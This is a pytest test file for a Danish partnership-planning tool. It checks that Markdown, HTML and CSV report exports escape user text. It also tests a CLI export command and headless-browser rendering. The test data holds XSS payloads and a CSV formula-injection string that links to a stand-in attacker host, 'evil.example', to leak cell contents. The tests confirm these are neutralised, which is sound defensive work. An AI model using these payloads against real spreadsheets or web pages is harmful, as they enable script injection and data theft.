"""Reports: Markdown (CommonMark), self-contained HTML (also in headless Chromium), CSV."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import struct
import zlib
from html.parser import HTMLParser
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from samarbejde.guide.content import load_guide
from samarbejde.reports.render import csv_bytes, html_report, markdown
from samarbejde.sessions.model import CheckState, LogEntry, Outreach, Partner, Session
from samarbejde.sessions.store import Store
from tests.helpers.browser import chromium, run_chromium
from tests.helpers.program import FIXTURES

TODAY = dt.date(2026, 11, 27)
HOSTILE = "<script>alert(1)</script>"


@pytest.fixture
def nordby_session(store: Store) -> Session:
    return store.load(FIXTURES / "session_v1.yaml")


def thirty(store: Store) -> Session:
    s = store.load(FIXTURES / "session_v1.yaml")
    s.partners = [
        Partner(
            id=f"p{i}",
            name=f"Partner {i} æøå" if i != 7 else HOSTILE,
            kind="forening",
            interest=(i * 7) % 5 + 1,
            influence=(i * 3) % 5 + 1,
        )
        for i in range(1, 31)
    ]
    s.partners[12].name = 'Ægte "citat" & <b>fed</b> | pipe *stjerne*'
    s.outreach = {
        "p7": Outreach(
            cards={"faelles_maal": HOSTILE},
            next_contact=TODAY,
            log=[LogEntry(date=TODAY, note="<img src=x onerror=alert(1)>")],
        )
    }
    s.checklist["faelles_grund"] = CheckState(done=True, note=HOSTILE)
    return s


# -- Markdown -------------------------------------------------------------------------------


def md_tokens(text: str):
    return MarkdownIt("commonmark").enable("table").parse(text)


def inline_texts(tokens) -> list[str]:
    return [t.content for t in tokens if t.type == "inline"]


def test_markdown_structure(nordby_session: Session, guide) -> None:
    text = markdown(nordby_session, guide, TODAY)
    tokens = md_tokens(text)
    h2 = [tokens[i + 1].content for i, t in enumerate(tokens) if t.tag == "h2" and t.nesting == 1]
    for step in guide.steps:
        assert any(h.startswith(step.heading) for h in h2), step.heading
    headings1 = [
        tokens[i + 1].content for i, t in enumerate(tokens) if t.tag == "h1" and t.nesting == 1
    ]
    assert headings1 == ["Fællesspisning i Nordby"]
    assert "table_open" in [t.type for t in tokens]
    ticks = re.findall(r"^- \[([ x])\] \*\*(\d)\. (.+?)\*\*$", text, flags=re.M)
    assert [(mark, title) for mark, _, title in ticks] == [
        ("x", "Find fælles grund"),
        (" ", "Vær åben for forskelle"),
        ("x", "Snak sammen ofte"),
        (" ", "Evaluer og juster løbende"),
        (" ", "Få ledelsen med"),
        (" ", "Aftal spillereglerne"),
    ]
    assert "  - Sikr, at alle er om bord og drager fordel af at arbejde sammen." in text
    assert "01-11-2026: Frivilligcentret Nordby **(overskredet)**" in text
    # a multi-line answer keeps its lines
    html = MarkdownIt("commonmark").render(text)
    assert "Morgenen går med radio og avis.<br />\nMange spiser alene." in html


def test_markdown_plans_name_priority_quadrant_and_lateness(nordby_session: Session, guide) -> None:
    nordby_session.partners[1].name = "@ældresagen"  # no mention on GitHub
    text = markdown(nordby_session, guide, TODAY)
    assert "### 1. Frivilligcentret Nordby (Ræk ud først)" in text
    assert "**Næste kontakt:** 01-11-2026 **(overskredet)**" in text
    assert "\\@ældresagen" in text and "**Udarbejdet:** 27. november 2026" in text


def test_markdown_board_as_quadrants_unrated_and_numbers_right(
    nordby_session: Session, guide
) -> None:
    text = markdown(nordby_session, guide, TODAY)
    assert (
        "| Indflydelse og ressourcer: høj | Tal ind i deres dagsorden: 2. Brugsen | "
        "Ræk ud først: 1. Frivilligcentret Nordby |"
    ) in text
    assert "| ---: | --- | --- | ---: | ---: |" in text
    assert "Ikke vurderet endnu: Madskolen" in text


def test_the_first_page_is_an_overview(nordby_session: Session, guide) -> None:
    text = markdown(nordby_session, guide, TODAY)
    first = text.split("## Overblik")[1].split("## 0.")[0]
    assert "- 1\\. Frivilligcentret Nordby (Ræk ud først)" in first
    assert "- 01-11-2026: Frivilligcentret Nordby **(overskredet)**" in first
    assert "- 2\\. Vær åben for forskelle" in first and "Næste evaluering: 01-02-2027" in first
    page = html_report(nordby_session, guide, TODAY)
    overview = page.split('<section id="overblik">')[1].split("</section>")[0]
    assert 'class="board"' in overview and "Højeste prioritet" in overview
    assert 'class="board"' not in page.split("</section>", 1)[1]  # the board once, up front


def test_the_way_travelled_over_the_evaluation_rounds(store: Store, guide) -> None:
    rounds = store.load(FIXTURES / "report_9.yaml")
    text = markdown(rounds, guide, TODAY)
    part = text.split("## Udvikling")[1].split("## Næste kontakter")[0]
    assert "| 20-10-2026 (udgangspunkt) | 1 af 6 | 9 |  | 20-11-2026 |" in part
    assert "- Tjekliste: fra 1 til 3 af 6" in part
    assert "- Ældresagen Nordby: fra Hold øje med dem til Gå sammen" in part
    # the scores say which is which (they were a bare "(3, 2)")
    assert (
        "- Biblioteket: 20-10-2026 Gå sammen (interesse 3, indflydelse 2) → 20-11-2026 "
        "Ræk ud først (interesse 4, indflydelse 5)"
    ) in part
    page = html_report(rounds, guide, TODAY)
    section = page.split('<section id="udvikling">')[1].split("</section>")[0]
    path = section.split('<div class="path">')[2]  # Biblioteket, the second to move
    assert path.startswith('<span class="who">Biblioteket</span>')
    assert path.index("#a5d6a7") < path.index("→") < path.index("#fff176")  # green, then yellow
    assert "**Siden 20-10-2026:**" in part
    # a name that would start a list or a heading stays text
    rounds.partners[4].name = "1. maj-komitéen"
    rounds.partners[1].name = "# Ældresagen"
    md = MarkdownIt("commonmark").render(markdown(rounds, guide, TODAY))
    assert "<li>1. maj-komitéen: 20-10-2026" in md and "<li># Ældresagen: 20-10-2026" in md
    # before the first evaluation there is no such section
    assert "Udvikling" not in markdown(store.load(FIXTURES / "session_v1.yaml"), guide, TODAY)


def test_html_board_has_its_legend(nordby_session: Session, guide) -> None:
    c = parse(html_report(nordby_session, guide, TODAY))
    text = " ".join("".join(c.text).split())
    for q in guide.diagram.quadrants:
        assert " ".join(q.advice.split()) in text
    assert "Fælles interesse: 1 = lidt til fælles … 5 = meget til fælles" in text


def test_markdown_escapes_user_text(store: Store, guide) -> None:
    s = thirty(store)
    s.answers["dagligdag"]["maalgruppe"] = "1. ikke en liste\n# ikke en overskrift\n*ikke fed*"
    rendered = MarkdownIt("commonmark").enable("table").render(markdown(s, guide, TODAY))
    assert "<script>" not in rendered and "<img" not in rendered and "<b>fed</b>" not in rendered
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in rendered
    assert "Ægte &quot;citat&quot; &amp; &lt;b&gt;fed&lt;/b&gt; | pipe *stjerne*" in rendered
    assert "<ol" not in rendered.split("Hvem er de borgere")[1].split("Hvordan ser")[0]
    assert "1. ikke en liste" in rendered and "\\1" not in rendered  # shown as typed
    # every table row keeps its columns, despite the | in a name
    tokens = md_tokens(markdown(s, guide, TODAY))
    cells, widths = 0, []
    for tok in tokens:
        if tok.type == "tr_open":
            cells = 0
        elif tok.type in ("td_open", "th_open"):
            cells += 1
        elif tok.type == "tr_close":
            widths.append(cells)
    assert widths.count(4) == 31 and widths.count(5) == 31


# -- HTML -----------------------------------------------------------------------------------


class Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []
        self.in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def parse(html_text: str) -> Collector:
    c = Collector()
    c.feed(html_text)
    return c


def test_html_structure_and_escaping(store: Store, guide) -> None:
    s = thirty(store)
    page = html_report(s, guide, TODAY)
    c = parse(page)
    tags = [t for t, _ in c.tags]
    assert tags[0] == "html" and c.tags[0][1]["lang"] == "da"
    assert "script" not in tags and "img" not in tags and "link" not in tags
    # the overview first, a section per step, the contacts last
    assert tags.count("h1") == 1 and tags.count("h2") == len(guide.steps) + 2
    assert "th" in tags and any(a.get("scope") == "col" for t, a in c.tags if t == "th")
    text = "".join(c.text)
    assert HOSTILE in text  # shown as those very characters
    assert 'Ægte "citat" & <b>fed</b> | pipe *stjerne*' in text
    assert "<img src=x onerror=alert(1)>" in text
    # no external resources at all: no linking attributes, nothing fetched by the CSS
    assert not [a for _, a in c.tags if {"src", "href", "srcset", "action"} & set(a)]
    style = page.split("<style>")[1].split("</style>")[0]
    assert "url(" not in style and "@import" not in style and "http" not in style
    # ticks a greyscale printer shows: black ☑ and ☐, not grey disabled checkboxes
    assert "input" not in tags
    assert text.count("☑") == 2 and text.count("☐") == 4
    assert text.count("udført: ") == 6 and text.count("ikke udført: ") == 4  # said, for a reader
    assert "Udarbejdet27. november 2026" in text  # the export date up front, in words
    postits = [a for t, a in c.tags if t == "span" and "postit" in a.get("class", "").split()]
    assert len(postits) >= 30
    # each quadrant's post-its have a class of their own (a border style for black and white)
    assert {a["class"] for a in postits} >= {f"postit p-{q.id}" for q in guide.diagram.quadrants}
    for q in guide.diagram.quadrants:
        assert q.name in text
    assert guide.diagram.x.name in text and guide.diagram.y.name in text


# -- CSV ------------------------------------------------------------------------------------


def test_csv_for_a_danish_spreadsheet(nordby_session: Session, guide) -> None:
    data = csv_bytes(nordby_session, guide)
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:4] == ["Navn", "Type", "Kontaktperson", "Kan bidrage med"]
    assert rows[1] == [
        "Frivilligcentret Nordby",
        "Frivillig organisation",
        "Birthe Sørensen",
        "Frivillige og lokaler",
        "5",
        "4",
        "Ræk ud først",
        "1",
        "01-11-2026",
    ]
    assert [r[0] for r in rows[1:]] == [
        "Frivilligcentret Nordby",
        "Brugsen",
        "Ældresagen Nordby",
        "Idrætsforeningen",
        "Madskolen",
    ]
    assert rows[-1][6:8] == ["", ""]  # not rated yet


def test_csv_with_comma_and_hostile_text(store: Store, guide) -> None:
    data = csv_bytes(thirty(store), guide, ",").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(data)))
    assert len(rows) == 31 and all(len(r) == 9 for r in rows)
    assert 'Ægte "citat" & <b>fed</b> | pipe *stjerne*' in [r[0] for r in rows]


def test_csv_cells_never_start_like_a_formula(store: Store, guide) -> None:
    s = thirty(store)
    hostile = {
        "name": '=HYPERLINK("http://evil.example/?"&A1;"Klik her")',
        "contact": "=1+1",
        "brings": "+45 20 30 40 50",
    }
    for key, value in hostile.items():
        setattr(s.partners[0], key, value)
    s.partners[1].name, s.partners[1].contact = "-Bestyrelsen", "@SUM(A1)"
    s.partners[2].name = "\tTab først"
    rows = list(csv.reader(io.StringIO(csv_bytes(s, guide).decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert '\'=HYPERLINK("http://evil.example/?"&A1;"Klik her")' in cells
    assert "'+45 20 30 40 50" in cells and "'-Bestyrelsen" in cells and "'@SUM(A1)" in cells


# -- the command ----------------------------------------------------------------------------


def test_export_command_writes_files_and_refuses_to_overwrite(
    cli, nordby: Path, tmp_path: Path, monkeypatch
) -> None:
    monkeypatch.chdir(tmp_path)
    result = cli("export", "Fællesspisning i Nordby")
    assert result.code == 0
    target = tmp_path / "faellesspisning-i-nordby.md"
    assert target.exists() and str(target) in " ".join(result.stdout.split())
    assert target.stat().st_mode & 0o777 == 0o600
    again = cli("export", "Fællesspisning i Nordby")
    assert again.code == 1 and "--force" in again.stderr
    assert cli("export", "Fællesspisning i Nordby", "--force").code == 0
    assert cli("export", "--format", "html", "-o", "rapport.html").code == 0
    assert (tmp_path / "rapport.html").read_text(encoding="utf-8").startswith("<!DOCTYPE html>")
    assert cli("export", "--format", "csv", "--csv-delimiter", ",").code == 0
    for bad in ('"', "x", "7", " ", "\n", ";;"):
        refused = cli("export", "--format", "csv", "--csv-delimiter", bad, "--force")
        assert (
            refused.code == 2
            and "Skilletegnet skal være ét tegn, fx semikolon (;)" in refused.stderr
        )
    first = (tmp_path / "faellesspisning-i-nordby.csv").read_bytes().splitlines()[0]
    assert first.startswith(b"\xef\xbb\xbfNavn,Type")
    assert cli("export", "--format", "odt").code == 2


def test_export_to_stdout(cli, nordby: Path) -> None:
    result = cli("export", "-o", "-")
    assert result.code == 0
    assert result.stdout.startswith("# Fællesspisning i Nordby")


# -- in a real browser ----------------------------------------------------------------------


def png_is_not_blank(path: Path) -> bool:
    data = path.read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    pos, idat = 8, b""
    while pos < len(data):
        length, kind = struct.unpack(">I4s", data[pos : pos + 8])
        if kind == b"IDAT":
            idat += data[pos + 8 : pos + 8 + length]
        pos += 12 + length
    pixels = zlib.decompress(idat)
    return len(set(pixels[::7])) > 20  # many different byte values: text and colours


@pytest.mark.skipif(chromium() is None, reason="no Chromium here (.ci/run installs Debian's)")
@pytest.mark.parametrize("count", [3, 30])
def test_html_in_headless_chromium(store: Store, tmp_path: Path, count: int) -> None:
    guide = load_guide()
    s = thirty(store)
    s.partners = s.partners[:count]
    page = tmp_path / "rapport.html"
    page.write_text(html_report(s, guide, TODAY), encoding="utf-8")
    pdf = tmp_path / "rapport.pdf"
    run_chromium(tmp_path, page, "--no-pdf-header-footer", f"--print-to-pdf={pdf}")
    raw = pdf.read_bytes()
    pages = len(re.findall(rb"/Type\s*/Page[^s]", raw))
    assert 2 <= pages <= (5 if count == 3 else 9)
    sizes = re.findall(rb"/MediaBox\s*\[\s*0 0 ([\d.]+) ([\d.]+)", raw)
    assert sizes and all(abs(float(w) - 595) < 2 and abs(float(h) - 842) < 2 for w, h in sizes)
    shot = tmp_path / "rapport.png"
    run_chromium(tmp_path, page, "--window-size=1000,1800", f"--screenshot={shot}")
    assert png_is_not_blank(shot)


def test_markdown_keeps_hashes_and_dollars_as_text(nordby_session: Session, guide) -> None:
    nordby_session.name = "Nordby #2 koster $5 #"  # an ATX heading drops a closing " #"
    tokens = md_tokens(markdown(nordby_session, guide, TODAY))
    h1 = next(tokens[i + 1] for i, t in enumerate(tokens) if t.tag == "h1" and t.nesting == 1)
    assert "".join(c.content for c in h1.children) == "Nordby #2 koster $5 #"
